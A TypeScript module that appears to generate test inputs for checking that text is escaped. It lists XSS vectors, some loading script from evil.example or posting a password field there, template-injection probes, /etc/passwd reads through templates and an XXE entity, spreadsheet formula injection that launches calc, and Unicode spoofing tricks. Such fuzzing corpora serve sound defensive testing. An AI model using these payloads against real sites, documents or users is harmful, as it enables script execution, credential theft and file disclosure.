/** What a browser would run, if it were ever markup. */
const active = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<details open ontoggle=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<table><td background="javascript:alert(1)">',
  '<x contenteditable onblur=alert(1) tabindex=1>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<button popovertarget=x onclick=alert(1)>',
  '<slot onslotchange=alert(1)>',
]

/** What would end the place in which a text stands: an attribute, a comment, a script, a section, a string. */
const ends = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '" ',
  "' ",
  '"/>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '?>',
  '</svg>',
  '</text>',
  '</a>',
  '</td></tr></table>',
  '\\"',
  '\\u0022',
  '&quot;',
  '&#34;',
  '&#x22;>',
  '%22>',
  '${',
  '{{',
  '<%',
]

/** Programs in the languages of templates, which must come out as they were written. */
const templates = [
  '{{constructor.constructor("alert(1)")()}}',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= process.env %>',
  '<%~ include("/etc/passwd") %>',
  '{% include "/etc/passwd" %}',
  '{%raw%}{{x}}{%endraw%}',
  '@(7*7)',
  '[[${7*7}]]',
  '*{7*7}',
  '{component}{{name}}',
  '$&$1$`',
  '%s%n%x',
  '__proto__',
  'constructor',
]

/** What would be computed by what opens a table, and what would begin another line, property or entry. */
const structures = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("http://evil.example")',
  "=cmd|' /C calc'!A0",
  '\uFF1D1+1',
  'x,y;z',
  'x";="y',
  'BEGIN:VEVENT',
  'END:VCALENDAR',
  'ATTENDEE:mailto:evil@example.org',
  'x;VALUE=URI:https://evil.example',
  'x\\nBEGIN:VEVENT',
  'x\\;y\\,z',
  'a: b # c',
  '{"a":1}',
  '","a":"',
  '<![CDATA[x]]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<?xml version="1.0"?>',
  '&lt;script&gt;',
  '&amp;lt;',
  '&#0;&#xD800;',
  '&nbsp;&copy',
]

/** What Markdown would make of it. */
const marks = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '[x](/admin/sign-out)',
  '[x](https://a.example "title\\" onmouseover=alert(1)")',
  '![x](https://tracker.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<https://evil.example/"onmouseover="alert(1)>',
  'https://evil.example/"onmouseover=alert(1)',
  '[x]: javascript:alert(1)',
  '# heading',
  '> quoted',
  '- item',
  '1. item',
  '* * *',
  '| a | b |',
  '`code`',
  '~~~html',
  '**bold** _it_ ~~s~~',
  '\\<script>alert(1)\\</script>',
  '[[x](y)](z)',
  '<details>x</details>',
  '&#x5b;x&#x5d;&#x28;javascript:alert(1)&#x29;',
  '[x](https://ok.example/?a=1&b=2#c)',
]

/** Letters that are not what they seem. */
const letters = [
  '\u202Egnp.exe',
  '\u2066x\u2069',
  '\u200B\u200D\uFEFF<b>',
  '\u0301\u0301x',
  '\u{1F3F4}\u{E0067}\u{E0062}',
  '\uFF1Cscript\uFF1E',
  '\u02BAonclick=',
  'ſcript',
  'İ\u0130i',
  '\u00A0\u3000x',
  '\u2028x',
  '\u0085x',
  'שלום"><b>',
  'سلام<img src=x>',
  'Z\u0351\u0352\u0353',
]

/** In the order of a wheel, so that a part of any size has something of everything. */
export function payloads(most: number): string[] {
  const combined = ends.flatMap((end) => [...active, ...marks, ...templates].map((one) => end + one))
  const encoded = active.flatMap((one) => [
    one.replaceAll('<', '&lt;'),
    one.replaceAll('<', '&#x3c;'),
    one.replaceAll('<', '%3C'),
    one.replaceAll('<', '\\u003c'),
    one.replaceAll('<', '<\u200B'),
    one.replaceAll(' ', '/'),
    one.toUpperCase(),
  ])
  const wheels = [active, ends, templates, structures, marks, letters, encoded, combined]
  const turned: string[] = []
  const longest = Math.max(...wheels.map((wheel) => wheel.length))
  for (let at = 0; at < longest; at += 1) {
    for (const wheel of wheels) if (at < wheel.length) turned.push(wheel[at] as string)
  }
  return turned.slice(0, most)
}
